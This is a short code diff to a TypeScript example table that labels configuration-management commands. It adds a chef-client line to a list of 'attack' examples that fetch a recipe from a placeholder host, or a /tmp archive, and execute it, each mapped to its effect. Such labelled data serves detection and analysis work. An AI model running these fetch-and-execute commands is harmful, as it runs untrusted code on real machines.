@@ -135,6 +135,7 @@ export const configurationManagement1: ExampleTable = {
     attack: [
       'chef-client --local-mode --recipe-url=https://example.org/x.tgz → execute ‹https://example.org/x.tgz›',
       'curl -so c.rb https://example.org/x && chef-client -c c.rb → execute ‹https://example.org/x›',
+      'chef-client -z --recipe-url=/tmp/x.tgz → run /tmp/x.tgz; read /tmp/x.tgz',
     ],
     unclear: 'chef-client → who gives it orders',
   },
